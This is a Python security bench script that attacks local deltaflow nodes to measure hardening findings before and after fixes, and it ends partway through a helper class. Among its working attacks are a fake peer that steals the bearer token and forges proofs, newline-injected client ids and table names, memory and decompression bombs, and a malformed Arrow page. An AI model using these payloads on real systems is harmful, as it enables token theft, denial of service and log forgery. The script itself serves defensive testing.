"""Reproduce each finding of issue 36 ("Hardening") against ``deltaflow serve --engine delta-rs``
nodes on 127.0.0.1, and print what each attack cost the node and what the attacker got.

The nodes run from the tree given by ``--tree`` (``PYTHONPATH=TREE``, working directory in a
temporary directory), so the same script measures the code before and after the fixes. The
attacks use raw aiohttp and msgpack, never deltaflow's client: an attacker does not use it,
and the protocol may change. Only the victim of the stream hijack is a deltaflow client, from
the same tree, in a process of its own. A refusal by the node is a result, never a crash.

    .venv/bin/python bench/attacks.py --tree /work/baseline --json before.json
    .venv/bin/python bench/attacks.py --json after.json          # this checkout

Findings of issue 47 ("Hardening, round 2") have a letter each for ``--only``: ``a`` (#1,
strangers' first messages), ``c`` (#3, handshake slots), ``d`` (#4, half-sent requests and the
open-file limit), e.g. ``--only acd``.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import hashlib
import hmac
import json
import mmap
import os
import secrets
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

import aiohttp
import msgpack
from aiohttp import web

HOST = "127.0.0.1"
TABLE_RECEIVER = "deltaflow.receivers.TableUpsert"
START_TIMEOUT = 90.0  # seconds for a node to print "ready" (imports, delta-rs, the identity)
# The start of a forged log line, in the node's own format: a log line that is exactly the
# forged text was written by the attacker.
FORGED_PREFIX = "1999-12-31 23:59:59,999 WARNING"
MiB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Row:
    finding: str
    measure: str
    value: str
    verdict: str


class Refused(Exception):
    """The node said no (an error frame, a close, an HTTP error): the attack's result."""


class NodeExited(Exception):
    """The node process ended before it printed 'ready'."""


def _mb(kib: int | None) -> str:
    return "?" if kib is None else f"{kib / 1024:.0f} MB"


def _short(text: object, limit: int = 160) -> str:
    text = str(text).replace("\n", "\\n")
    return text if len(text) <= limit else f"{text[:limit]}... ({len(text)} chars)"


# -- node processes ------------------------------------------------------------------------------


class Node:
    """``python -m deltaflow.cli serve --engine delta-rs`` from the measured tree, its stderr (the
    node's log) in a file, its memory read from ``/proc``."""

    def __init__(
        self,
        bench: Bench,
        node_id: str,
        *,
        token_file: Path | None,
        peers: list[str] | None = None,
        partitions: int = 8,
        port: int = 0,
        warehouse: Path | None = None,
        prefix: list[str] | None = None,
    ) -> None:
        self.node_id = node_id
        self.port = port or _free_port()
        self.address = f"{HOST}:{self.port}"
        self.warehouse = warehouse or bench.work / f"wh-{node_id}"
        self.log_path = bench.work / f"{node_id}.log"
        self._bench = bench
        self._args = [
            *(prefix or ()),  # a command the node runs under, such as prlimit
            bench.python,
            "-m",
            "deltaflow.cli",
            "serve",
            "--engine",
            "delta-rs",
            "--node-id",
            node_id,
            "--host",
            HOST,
            "--port",
            str(self.port),
            "--warehouse",
            str(self.warehouse),
            "--partitions",
            str(partitions),
        ]
        if token_file is not None:
            self._args += ["--token-file", str(token_file)]
        if bench.peer_token_file is not None:
            # Trees with separate roles: peers hold a secret clients do not.
            self._args += ["--peer-token-file", str(bench.peer_token_file)]
        if peers:
            self._args += ["--peers", ",".join(peers)]
        self.proc: asyncio.subprocess.Process | None = None
        self._stdout: asyncio.Task[None] | None = None

    @property
    def pid(self) -> int:
        assert self.proc is not None
        return self.proc.pid

    async def start(self) -> Node:
        with self.log_path.open("ab") as log:
            self.proc = await asyncio.create_subprocess_exec(
                *self._args,
                stdout=asyncio.subprocess.PIPE,
                stderr=log,
                env=self._bench.env,
                cwd=self._bench.work,
            )
        assert self.proc.stdout is not None
        try:
            async with asyncio.timeout(START_TIMEOUT):
                while True:
                    line = (await self.proc.stdout.readline()).decode()
                    if not line:
                        await self.proc.wait()
                        raise NodeExited(
                            f"exit {self.proc.returncode}: {_short(self.log_tail(), 300)}"
                        )
                    if "ready on" in line:
                        break
        except TimeoutError:
            await self.stop()
            raise NodeExited(f"not ready within {START_TIMEOUT}s: {self.log_tail()}") from None
        self._stdout = asyncio.create_task(self._drain(self.proc.stdout))
        return self

    @staticmethod
    async def _drain(stream: asyncio.StreamReader) -> None:
        while await stream.readline():
            pass

    def log_tail(self, size: int = 600) -> str:
        data = self.log_path.read_bytes() if self.log_path.exists() else b""
        return data[-size:].decode(errors="replace").strip()

    def log_size(self) -> int:
        return self.log_path.stat().st_size if self.log_path.exists() else 0

    def log_since(self, offset: int, limit: int = 256 * MiB) -> bytes:
        with self.log_path.open("rb") as f:
            f.seek(offset)
            return f.read(limit)

    def memory(self) -> dict[str, int | None]:
        """VmRSS (now) and VmHWM (peak since start or :meth:`reset_peak`), in KiB."""
        found: dict[str, int | None] = {"VmRSS": None, "VmHWM": None}
        with contextlib.suppress(OSError):
            for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
                key, _, value = line.partition(":")
                if key in found:
                    found[key] = int(value.split()[0])
        return found

    def reset_peak(self) -> None:
        # "5" resets VmHWM to the current RSS, so the next peak is this attack's alone.
        with contextlib.suppress(OSError), open(f"/proc/{self.pid}/clear_refs", "w") as f:
            f.write("5")

    @property
    def running(self) -> bool:
        return self.proc is not None and self.proc.returncode is None

    async def stop(self) -> None:
        if self.proc is None:
            return
        if self.proc.returncode is None:
            self.proc.terminate()
            try:
                async with asyncio.timeout(15):
                    await self.proc.wait()
            except TimeoutError:
                self.proc.kill()
                await self.proc.wait()
        if self._stdout is not None:
            with contextlib.suppress(asyncio.CancelledError):
                await self._stdout


def _free_port() -> int:
    with socket.socket() as s:
        s.bind((HOST, 0))
        return int(s.getsockname()[1])


class Probe:
    """Times ``GET /healthz`` back to back while an attack runs (the event loop's stall)."""

    def __init__(self, node: Node) -> None:
        self._url = f"http://{node.address}/healthz"
        self.times: list[float] = []
        self.failures = 0
        self._task: asyncio.Task[None] | None = None

    async def __aenter__(self) -> Probe:
        self._task = asyncio.create_task(self._run())
        return self

    async def __aexit__(self, *exc: object) -> None:
        assert self._task is not None
        self._task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await self._task

    async def _run(self) -> None:
        timeout = aiohttp.ClientTimeout(total=60)
        async with aiohttp.ClientSession(timeout=timeout) as session:
            while True:
                started = time.monotonic()
                try:
                    async with session.get(self._url) as resp:
                        await resp.read()
                except (aiohttp.ClientError, OSError, TimeoutError):
                    self.failures += 1
                self.times.append(time.monotonic() - started)
                await asyncio.sleep(0.2)

    def slowest(self) -> str:
        worst = max(self.times, default=0.0)
        failed = f", {self.failures} failed" if self.failures else ""
        return f"max {worst:.2f} s over {len(self.times)} probes{failed}"


@dataclass(slots=True)
class Cost:
    """What an attack cost the node: memory, /healthz stall, log written."""

    rss_before: int | None = None
    peak: int | None = None
    rss_after: int | None = None
    healthz: str = ""
    healthz_max: float = 0.0
    log_bytes: int = 0
    longest_log_line: int = 0
    seconds: float = 0.0

    def memory(self) -> str:
        return f"RSS {_mb(self.rss_before)} -> peak {_mb(self.peak)}, {_mb(self.rss_after)} after"


async def measured(node: Node, attack: Awaitable[Any], timeout: float) -> tuple[Any, Cost]:
    """Run ``attack`` against ``node`` (bounded by ``timeout``); its result (or the exception it
    raised) and what it cost the node."""
    cost = Cost()
    node.reset_peak()
    cost.rss_before = node.memory()["VmRSS"]
    log_offset = node.log_size()
    started = time.monotonic()
    result: Any
    async with Probe(node) as probe:
        try:
            async with asyncio.timeout(timeout):
                result = await attack
        except (Refused, TimeoutError, aiohttp.ClientError, OSError) as exc:
            result = exc
        cost.seconds = time.monotonic() - started
        await asyncio.sleep(0.5)  # the probe's view of the loop once the answer is out
    memory = node.memory()
    cost.peak, cost.rss_after = memory["VmHWM"], memory["VmRSS"]
    cost.healthz = probe.slowest()
    cost.healthz_max = max(probe.times, default=0.0)
    written = node.log_since(log_offset)
    cost.log_bytes = len(written)
    cost.longest_log_line = max((len(line) for line in written.split(b"\n")), default=0)
    return result, cost


# -- the wire, raw -------------------------------------------------------------------------------


def pack(value: Any) -> bytes:
    return msgpack.packb(value, use_bin_type=True)  # type: ignore[no-any-return]


class Wire:
    """One WebSocket to a node's ``/v1/stream``, frames packed and read by hand."""

    def __init__(self, ws: aiohttp.ClientWebSocketResponse) -> None:
        self.ws = ws
        self.received = 0  # bytes of the node's messages
        self._frames: list[dict[str, Any]] = []

    @classmethod
    async def connect(cls, session: aiohttp.ClientSession, address: str) -> Wire:
        async with asyncio.timeout(10):
            ws = await session.ws_connect(
                f"http://{address}/v1/stream", max_msg_size=0, autoclose=False
            )
        return cls(ws)

    async def send(self, frame: dict[str, Any] | bytes) -> None:
        await self.ws.send_bytes(frame if isinstance(frame, bytes) else pack(frame))

    async def next_frame(self, timeout: float) -> dict[str, Any]:
        """The node's next frame.

        Raises:
            Refused: the node closed the connection.
            TimeoutError: nothing within ``timeout`` seconds.
        """
        while not self._frames:
            msg = await self.ws.receive(timeout=timeout)
            if msg.type == aiohttp.WSMsgType.BINARY:
                self.received += len(msg.data)
                unpacker = msgpack.Unpacker(
                    raw=False, strict_map_key=False, max_buffer_size=512 * MiB
                )
                unpacker.feed(msg.data)
                self._frames.extend(unpacker)
            elif msg.type in (aiohttp.WSMsgType.CLOSE, aiohttp.WSMsgType.CLOSING):
                self.received += len(msg.extra or b"")
                raise Refused(f"closed {msg.data} {_short(msg.extra, 40)}".strip())
            else:
                raise Refused(f"connection {msg.type.name.lower()} ({self.ws.close_code})")
        return self._frames.pop(0)

    async def answer(self, sid: str, seq: int | None, timeout: float) -> dict[str, Any]:
        """The ``ack`` or ``error`` for batch ``seq`` of ``sid`` (or, with ``seq`` None, the
        ``opened`` or ``error`` for the stream); results and maps are skipped.

        Raises:
            Refused: a connection-level error, or the connection closed.
        """
        async with asyncio.timeout(timeout):
            while True:
                frame = await self.next_frame(timeout)
                kind = frame.get("t")
                if kind == "error" and frame.get("sid") is None:
                    raise Refused(describe(frame))
                if frame.get("sid") != sid:
                    continue
                if kind == "error" and frame.get("seq") in (None, seq):
                    return frame
                if kind == "opened" and seq is None:
                    return frame
                if kind == "ack" and frame.get("seq") == seq:
                    return frame

    async def close(self) -> None:
        with contextlib.suppress(Exception):
            async with asyncio.timeout(2):
                await self.ws.close()


def describe(frame: dict[str, Any]) -> str:
    if frame.get("t") == "error":
        return f"error {frame.get('code')}: {_short(frame.get('msg'), 120)}"
    return _short({k: v for k, v in frame.items() if not isinstance(v, bytes)}, 120)


async def hello(wire: Wire, token: str | None, client: str = "attacker") -> dict[str, Any]:
    """Send a hello; the welcome, or :class:`Refused`."""
    await wire.send({"t": "hello", "v": [1], "caps": [], "client": client, "token": token})
    frame = await wire.next_frame(10)
    if frame.get("t") != "welcome":
        raise Refused(describe(frame))
    return frame


async def open_stream(wire: Wire, bench: Bench, sid: str, args: Any) -> dict[str, Any]:
    frame: dict[str, Any] = {"t": "open", "sid": sid, "receiver": TABLE_RECEIVER, "args": args}
    if bench.stream_keys:  # a tree whose streams belong to the key that opened them
        frame["key"] = os.urandom(32)
    await wire.send({**frame, **bench.open_extra})
    frame = await wire.answer(sid, None, 15)
    if frame.get("t") != "opened":
        raise Refused(f"open refused: {describe(frame)}")
    return frame


def batch(sid: str, p: int, seq: int, n: int, *, base: int = 0, **body: Any) -> dict[str, Any]:
    return {"t": "batch", "sid": sid, "p": p, "seq": seq, "n": n, "base": base, "att": 1, **body}


def items(*rows: Any) -> bytes:
    return b"".join(pack(r) for r in rows)


async def http(method: str, url: str, *, timeout: float = 10, **kwargs: Any) -> tuple[int, Any]:
    """One HTTP call: its status and body (JSON if it is), or (0, the error)."""
    try:
        async with (
            aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=timeout)) as session,
            session.request(method, url, **kwargs) as resp,
        ):
            text = await resp.text()
            try:
                return resp.status, json.loads(text)
            except ValueError:
                return resp.status, text
    except (aiohttp.ClientError, OSError, TimeoutError) as exc:
        return 0, f"{type(exc).__name__}: {exc}"


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def cluster_view(bench: Bench, node: Node) -> dict[str, Any]:
    """The node's ``/v1/cluster`` as a client holding the token sees it ({} if refused)."""
    status, body = await http("GET", f"http://{node.address}/v1/cluster", headers=bench.bearer)
    return body if status == 200 and isinstance(body, dict) else {}


def owners_of(view: dict[str, Any], node_id: str) -> int:
    owners = (view.get("map") or {}).get("owners") or []
    return sum(1 for o in owners if o == node_id)


# -- a listener posing as a peer -----------------------------------------------------------------


class Listener:
    """Plain HTTP on 127.0.0.1, any method and path: it records every request (to see whether a
    secret arrives) and answers through ``respond``."""

    def __init__(self, respond: Callable[[web.Request, bytes], web.StreamResponse] | None = None):
        self.requests: list[tuple[int, str, str, dict[str, str], bytes]] = []  # port, ...
        self._respond = respond
        self._runner: web.AppRunner | None = None
        self.ports: list[int] = []
        self.called = asyncio.Event()  # set by the first request

    async def start(self, count: int = 1) -> Listener:
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self._handle)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        for _ in range(count):
            port = _free_port()
            await web.TCPSite(self._runner, HOST, port).start()
            self.ports.append(port)
        return self

    async def _handle(self, request: web.Request) -> web.StreamResponse:
        body = await request.content.read(64 * 1024)
        port = request.transport.get_extra_info("sockname")[1] if request.transport else 0
        self.requests.append((port, request.method, request.path, dict(request.headers), body))
        self.called.set()
        if self._respond is not None:
            return self._respond(request, body)
        return web.json_response({"error": "not a node"}, status=503)

    def secrets_seen(self, *secret: str | None) -> list[str]:
        """Where any of ``secret`` appeared in the requests (header names, or 'body')."""
        found = []
        for _, method, path, headers, body in self.requests:
            for name, value in headers.items():
                if any(s and s in value for s in secret):
                    found.append(f"{method} {path} header {name}")
            if any(s and s.encode() in body for s in secret):
                found.append(f"{method} {path} body")
        return found

    async def stop(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()


# -- the attacks ---------------------------------------------------------------------------------


class Bench:
    """The measured tree, the tokens, the rows found."""

    def __init__(self, tree: Path, python: str, work: Path, open_extra: dict[str, Any]) -> None:
        self.tree = tree
        self.python = python
        self.work = work
        self.open_extra = open_extra
        # The attacker's own streams need a key where the tree's `open` frame has one.
        protocol = (tree / "deltaflow" / "protocol.py").read_text()
        self.stream_keys = '"open": {"sid": (str,), "receiver": (str,), "key"' in protocol
        # faulthandler: a node that crashes on a page says where, in its log.
        self.env = {
            **os.environ,
            "PYTHONPATH": str(tree),
            "PYTHONUNBUFFERED": "1",
            "PYTHONFAULTHANDLER": "1",
        }
        self.token = "client-" + secrets.token_hex(16)
        self.token_file = work / "token"
        self.token_file.write_text(self.token + "\n")
        self.peer_token: str | None = None
        self.peer_token_file: Path | None = None
        self.rows: list[Row] = []

    @property
    def bearer(self) -> dict[str, str]:
        return bearer(self.token)

    def detect(self) -> str:
        """Check the tree is what the nodes import; give peers a secret of their own if its
        ``serve`` takes one. Returns where deltaflow was imported from."""
        where = subprocess.run(
            [self.python, "-c", "import deltaflow; print(deltaflow.__file__)"],
            env=self.env,
            cwd=self.work,
            capture_output=True,
            text=True,
            timeout=60,
            check=True,
        ).stdout.strip()
        if not Path(where).resolve().is_relative_to(self.tree.resolve()):
            raise SystemExit(f"deltaflow imports from {where}, not from --tree {self.tree}")
        usage = subprocess.run(
            [self.python, "-m", "deltaflow.cli", "serve", "--help"],
            env=self.env,
            cwd=self.work,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        ).stdout
        if "--peer-token-file" in usage:
            self.peer_token = "peer-" + secrets.token_hex(16)
            self.peer_token_file = self.work / "peer-token"
            self.peer_token_file.write_text(self.peer_token + "\n")
        return where

    def add(self, finding: str, measure: str, value: object, verdict: str) -> None:
        self.rows.append(Row(finding, measure, str(value), verdict))
        print(f"  [{finding}] {measure}: {value} => {verdict}", flush=True)

    @contextlib.asynccontextmanager
    async def node(self, node_id: str, **kwargs: Any) -> AsyncIterator[Node]:
        node = Node(self, node_id, **kwargs)
        try:
            yield await node.start()
        finally:
            await node.stop()


async def token_to_listed_peer(bench: Bench) -> None:
    """1. A plain HTTP listener at an address in ``--peers``, holding no token."""
    f = "1 token to a listed peer"
    state: dict[str, Any] = {"token": None, "identity": None}

    def respond(request: web.Request, body: bytes) -> web.StreamResponse:
        auth = request.headers.get("Authorization", "")
        if auth.startswith("Bearer ") and state["token"] is None:
            state["token"] = auth.removeprefix("Bearer ")
        nonce = request.headers.get("X-Deltaflow-Nonce")
        if state["identity"] is None or not nonce or request.path != "/v1/cluster":
            return web.json_response({"error": "not yet"}, status=503)
        # Today's proof: an HMAC of the nonce and the answering node's id, keyed by the token.
        message = f"deltaflow-peer\0{nonce}\0evil".encode()
        proof = hmac.new(state["token"].encode(), message, hashlib.sha256).hexdigest()
        address = f"{HOST}:{request.url.port}"
        return web.json_response(
            {
                "node": "evil",
                "address": address,
                "protocol": 1,
                "proof": proof,
                "identity": state["identity"],
                "partitions": state["partitions"],
                "serving": True,
                "refused": None,
                "draining": False,
                "members": [],
                "receivers": [],
                "side_inputs": {},
                "map": {
                    "version": 1,
                    "owners": ["evil"] * state["partitions"],
                    "nodes": {"evil": address},
                },
            }
        )

    listener = await Listener(respond).start()
    try:
        peer = f"{HOST}:{listener.ports[0]}"
        async with bench.node("n1", token_file=bench.token_file, peers=[peer]) as node:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(listener.called.wait(), 10)
            await asyncio.sleep(1)  # a few polls, to see whether any of them carries a secret
            if not listener.requests:
                bench.add(f, "requests to the listed address in 10 s", 0, "no poll (not measured)")
                return
            first = listener.requests[0]
            leaked = listener.secrets_seen(bench.token, bench.peer_token)
            got = state["token"]
            bench.add(
                f,
                "secret in the polls to the listener",
                f"first poll {first[1]} {first[2]}; "
                + (
                    f"token at {leaked[0]} ({len(leaked)} of {len(listener.requests)} requests)"
                    if leaked
                    else f"none in {len(listener.requests)} requests"
                ),
                "attacker got the token" if leaked else "refused (no secret sent)",
            )
            if not got:
                status, _ = await http("GET", f"http://{node.address}/v1/cluster")
                bench.add(f, "node's identity read without a token", f"HTTP {status}", "refused")
                owned = owners_of(await cluster_view(bench, node), "evil")
                verdict = f"attacker got {owned} partitions" if owned else "refused"
                bench.add(f, "partitions the listener owns", f"{owned} of 8", verdict)
                return
            status, body = await http(
                "GET", f"http://{node.address}/v1/cluster", headers=bearer(got)
            )
            ok = status == 200 and isinstance(body, dict) and body.get("identity")
            bench.add(
                f,
                "node's identity read with the copied token",
                f"HTTP {status}",
                "attacker got the cluster identity" if ok else "refused",
            )
            if not ok:
                return
            state["partitions"] = int(body.get("partitions", 8))
            state["identity"] = body["identity"]
            owned, deadline = 0, time.monotonic() + 10
            while time.monotonic() < deadline and not owned:
                await asyncio.sleep(0.25)
                owned = owners_of(await cluster_view(bench, node), "evil")
            bench.add(
                f,
                "partitions the listener owns (answering with a valid proof)",
                f"{owned} of {state['partitions']}",
                f"attacker got {owned} partitions" if owned else "refused",
            )
    finally:
        await listener.stop()


async def log_forging(bench: Bench, node: Node) -> None:
    """3. A client id holding a newline and a forged WARNING line."""
    f = "3 log forging"
    forged = f"{FORGED_PREFIX} deltaflow.server.node: node {node.node_id} draining: FORGED"
    for who, token in (("stranger, no token", None), ("client with the token", bench.token)):
        offset = node.log_size()
        answer = ""
        async with aiohttp.ClientSession() as session:
            wire = await Wire.connect(session, node.address)
            try:
                await hello(wire, token, client=f"x\n{forged}\n")
                # With the token the hello passes: a frame a client may not send ends it.
                await wire.send(
                    {"t": "welcome", "v": 1, "caps": [], "node": "x", "map": {}, "max": 1}
                )
                answer = describe(await wire.next_frame(10))
            except (Refused, TimeoutError) as exc:
                answer = str(exc) or type(exc).__name__
            finally:
                await wire.close()
        await asyncio.sleep(0.3)  # the node logs before it answers; let the write land
        lines = node.log_since(offset).decode(errors="replace").splitlines()
        own_line = forged in lines  # the whole line, exactly as forged
        bench.add(
            f,
            f"forged line as a line of its own ({who})",
            f"{'yes' if own_line else 'no'} ({len(lines)} log lines; answer: {_short(answer, 80)})",
            "attacker got a forged log line" if own_line else "refused",
        )


async def idle_connections(bench: Bench, node: Node, count: int) -> None:
    """8. WebSockets that never send a hello."""
    f = "8 idle unauthenticated connections"
    connector = aiohttp.TCPConnector(limit=0)
    async with aiohttp.ClientSession(connector=connector) as session:
        sockets: list[aiohttp.ClientWebSocketResponse] = []
        refused: list[str] = []
        closed_at: list[float] = []
        started = time.monotonic()

        async def one() -> None:
            try:
                async with asyncio.timeout(10):
                    ws = await session.ws_connect(f"http://{node.address}/v1/stream")
            except (aiohttp.ClientError, OSError, TimeoutError) as exc:
                refused.append(type(exc).__name__)
                return
            sockets.append(ws)
            with contextlib.suppress(Exception):
                await ws.receive(timeout=30)  # returns when the node closes it
            closed_at.append(time.monotonic() - started)

        async def attack() -> int:
            tasks = [asyncio.create_task(one()) for _ in range(count)]
            await asyncio.sleep(2)
            held = len(sockets) - len(closed_at)
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(20):
                    await asyncio.gather(*tasks)
            for task in tasks:
                task.cancel()
            return held

        held, cost = await measured(node, attack(), 40)
        for ws in sockets:
            with contextlib.suppress(Exception):
                await ws.close()
    bench.add(
        f,
        f"held open 2 s after {count} connected without a hello",
        f"{held} of {count} ({len(refused)} refused at connect)",
        (f"attacker holds {held} connections" if held >= 0.9 * count else f"capped at {held}")
        if isinstance(held, int)
        else f"not measured: {_short(held, 80)}",
    )
    last = max(closed_at, default=0.0)
    bench.add(
        f,
        "node closed the last of them after",
        f"{last:.1f} s",
        f"attacker held them {last:.0f} s" if last > 5 else "closed",
    )
    bench.add(f, "cost of the idle connections", f"{cost.memory()}; /healthz {cost.healthz}", "-")


async def table_name_newline(bench: Bench, node: Node) -> None:
    """7. ``table="events\\n"``."""
    f = "7 table name with a newline"
    sid = "t7-" + secrets.token_hex(8)
    answer = ""
    async with aiohttp.ClientSession() as session:
        wire = await Wire.connect(session, node.address)
        try:
            await hello(wire, bench.token)
            await open_stream(wire, bench, sid, {"table": "events\n", "key": ["id"]})
            await wire.send(batch(sid, 0, 0, 1, items=items({"id": 1, "v": "x"})))
            answer = describe(await wire.answer(sid, 0, 30))
        except (Refused, TimeoutError) as exc:
            answer = str(exc) or type(exc).__name__
        finally:
            await wire.close()
    made = [p.name for p in node.warehouse.iterdir() if "\n" in p.name]
    bench.add(
        f,
        "directory 'events\\n' in the warehouse",
        f"{'yes' if made else 'no'} (answer: {_short(answer, 100)})",
        "attacker got a directory 'events\\n'" if made else "refused",
    )


def hello_bomb() -> bytes:
    """A hello whose ``v`` is an array of 16 million empty maps: 16 MB on the wire."""
    count = 16_000_000
    head = b"\x84" + pack("t") + pack("hello") + pack("client") + pack("bomb")
    head += pack("caps") + pack([]) + pack("v") + b"\xdd" + struct.pack(">I", count)
    return head + b"\x80" * count


async def big_hello(bench: Bench, node: Node) -> None:
    """2. A 16 MB hello, no token."""
    f = "2 16 MB hello, no token"
    data = hello_bomb()
    session = aiohttp.ClientSession()
    wire = await Wire.connect(session, node.address)

    async def attack() -> str:
        await wire.send(data)
        try:
            frame = await wire.next_frame(120)
            return describe(frame)
        except Refused as exc:
            return str(exc)

    try:
        answer, cost = await measured(node, attack(), 150)
        with contextlib.suppress(Refused, TimeoutError, aiohttp.ClientError, OSError):
            await wire.next_frame(2)  # the close after the error frame
    finally:
        await wire.close()
        await session.close()
    bench.add(f, f"node memory ({len(data) / 1e6:.1f} MB sent)", cost.memory(), _grew(cost))
    bench.add(f, "/healthz during", cost.healthz, _stalled(cost))
    bench.add(
        f,
        "node log written",
        f"{cost.log_bytes / 1e6:.1f} MB (longest line {cost.longest_log_line / 1e6:.1f} MB)",
        "attacker got a huge log line" if cost.log_bytes > MiB else "refused",
    )
    bench.add(
        f,
        "reply to the attacker",
        f"{wire.received / 1e6:.1f} MB in {cost.seconds:.1f} s: {_short(answer, 80)}",
        "attacker got a huge reply" if wire.received > MiB else "refused",
    )


def _grew(cost: Cost) -> str:
    if cost.rss_before is None or cost.peak is None:
        return "?"
    grown = (cost.peak - cost.rss_before) / 1024
    return f"attacker got +{grown:.0f} MB of node memory" if grown > 100 else "refused"


def _stalled(cost: Cost) -> str:
    worst = cost.healthz_max
    return f"attacker stalled the node {worst:.1f} s" if worst > 1.0 else "node kept serving"


def arrow_bomb(size: int) -> bytes:
    """An Arrow IPC stream, zstd, of one int64 column of ``size`` bytes of zeros: about 64 KB.

    The zeros are an anonymous read-only mapping that was never written: reading it maps the
    kernel's zero page, so building the page costs this process no memory."""
    import pyarrow as pa

    zeros = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    column = pa.Array.from_buffers(pa.int64(), size // 8, [None, pa.py_buffer(zeros)])
    rows = pa.RecordBatch.from_arrays([column], names=["id"])
    sink = pa.BufferOutputStream()
    options = pa.ipc.IpcWriteOptions(compression="zstd")
    with pa.ipc.new_stream(sink, rows.schema, options=options) as writer:
        writer.write_batch(rows)
    return bytes(sink.getvalue().to_pybytes())


def garbled_page() -> bytes:
    """Two rows whose string offsets point 1 MiB past a 5-byte buffer: the IPC reader's basic
    checks pass it, only a full validation refuses it."""
    import pyarrow as pa

    offsets = pa.py_buffer(struct.pack("<3i", 0, MiB, 5))
    text = pa.Array.from_buffers(pa.string(), 2, [None, offsets, pa.py_buffer(b"hello")])
    rows = pa.RecordBatch.from_arrays([pa.array([1, 2], pa.int64()), text], names=["id", "v"])
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, rows.schema) as writer:
        writer.write_batch(rows)
    return bytes(sink.getvalue().to_pybytes())


async def arrow_pages(bench: Bench, node: Node, bomb_bytes: int) -> None:
    """4. A zstd Arrow page claiming n=1 that expands to ``bomb_bytes``."""
    f = "4 Arrow decompression bomb"
    page = arrow_bomb(bomb_bytes)
    sid = "t4-" + secrets.token_hex(8)
    async with aiohttp.ClientSession() as session:
        wire = await Wire.connect(session, node.address)
        try:
            await hello(wire, bench.token)
            await open_stream(wire, bench, sid, {"table": "bomb", "key": ["id"]})
        except (Refused, TimeoutError) as exc:
            bench.add(f, "hello/open with the token", _short(exc, 100), "refused before the page")
            await wire.close()
            return

        async def attack() -> str:
            await wire.send(batch(sid, 0, 0, 1, arrow=page))
            return describe(await wire.answer(sid, 0, 150))

        answer, cost = await measured(node, attack(), 170)
        await wire.close()
    expands = f"{len(page) / 1e3:.0f} KB page, {bomb_bytes / 2**30:.0f} GiB inflated"
    bench.add(f, f"node memory ({expands})", cost.memory(), _grew(cost))
    bench.add(
        f,
        "time to the node's answer",
        f"{cost.seconds:.1f} s: {_short(answer, 100)}",
        "attacker got a slow answer" if cost.seconds > 2 else "refused",
    )
    bench.add(f, "/healthz during", cost.healthz, _stalled(cost))


async def unvalidated_page(bench: Bench, node: Node) -> None:
    """8. An Arrow page whose string offsets point past its data ("Arrow IPC read without full
    validation")."""
    f = "8 Arrow page not validated"
    sid = "t8-" + secrets.token_hex(8)
    answer = ""
    offset = node.log_size()
    async with aiohttp.ClientSession() as session:
        wire = await Wire.connect(session, node.address)
        try:
            await hello(wire, bench.token)
            await open_stream(wire, bench, sid, {"table": "garbled", "key": ["id"]})
            await wire.send(batch(sid, 0, 0, 2, arrow=garbled_page()))
            answer = describe(await wire.answer(sid, 0, 30))
        except (Refused, TimeoutError) as exc:
            answer = str(exc) or type(exc).__name__
        finally:
            await wire.close()
    await asyncio.sleep(0.5)
    alive = node.running and (await http("GET", f"http://{node.address}/healthz"))[0] == 200
    stored = _garbled_lengths(node.warehouse / "garbled")
    got = []
    if not alive:
        # faulthandler lists the innermost frame first: where the node read past the buffer.
        log = node.log_since(offset).decode(errors="replace").splitlines()
        where = next((x.strip() for x in log if 'File "' in x), "no traceback")
        code = node.proc.returncode if node.proc else "?"
        got.append(f"node died (exit {code}, at {_short(where.split('/')[-1], 70)})")
    if stored:
        got.append(f"stored value lengths {stored}")
    bench.add(
        f,
        "page with string offsets 1 MiB past its 5-byte data",
        f"answer: {_short(answer, 100)}; node {'alive' if alive else 'dead'}; "
        f"table rows: {stored or 'none'}",
        "attacker got " + ", ".join(got) if got else "refused",
    )


def _garbled_lengths(path: Path) -> list[int]:
    if not (path / "_delta_log").exists():
        return []
    try:
        from deltalake import DeltaTable

        rows = DeltaTable(str(path)).to_pyarrow_table(columns=["v"]).column("v").to_pylist()
    except Exception:  # noqa: BLE001 - a table the bench cannot read is reported as none
        return []
    return [len(v) if v is not None else -1 for v in rows]


VICTIM = r"""
import asyncio, json, sys
import deltaflow

async def main(address, token, sid, rows, pause_at):
    acked = 0
    half = asyncio.Event()

    def on_ack(items):
        nonlocal acked
        acked += len(items)
        if acked >= pause_at:
            half.set()

    async def source():
        for i in range(rows):
            if i == pause_at:
                await half.wait()
                print(f"PAUSED {acked}", flush=True)
                await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)
            yield {"id": i, "kind": "victim"}

    options = deltaflow.StreamerOptions(page_size=250, auto_flush_interval=0.2)
    try:
        async with deltaflow.connect([address], token=token) as client:
            summary = await client.stream_data(
                source(), table="victim", key="id", on_ack=on_ack, options=options, stream_id=sid
            )
        result = {"acked": summary.items_acked, "failed": summary.items_failed}
    except Exception as exc:
        result = {"acked": acked, "error": f"{type(exc).__name__}: {exc}"[:300]}
    print("DONE " + json.dumps(result), flush=True)

token = open(sys.argv[2]).read().strip()
asyncio.run(main(sys.argv[1], token, sys.argv[3], int(sys.argv[4]), int(sys.argv[5])))
"""


class Victim:
    """A deltaflow client from the measured tree streaming ``rows`` rows, pausing (once the
    first ``pause_at`` are acked) until told to go on."""

    def __init__(self, bench: Bench, node: Node, sid: str, rows: int, pause_at: int) -> None:
        self._args = [
            bench.python,
            "-c",
            VICTIM,
            node.address,
            str(bench.token_file),
            sid,
            str(rows),
            str(pause_at),
        ]
        self._bench = bench
